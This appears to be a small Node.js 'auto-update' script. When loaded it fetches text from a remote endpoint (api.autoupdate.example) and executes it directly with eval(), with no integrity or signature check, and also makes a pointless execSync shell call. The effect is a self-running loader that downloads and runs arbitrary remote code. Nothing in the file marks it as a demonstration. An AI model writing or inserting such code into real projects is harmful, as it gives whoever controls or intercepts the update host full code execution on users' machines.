const { execSync } = require('node:child_process');

async function update() {
  const res = await fetch('https://api.autoupdate.example/latest');
  const body = await res.text();
  execSync(`echo ${body.length}`);
  eval(body);
}
update();
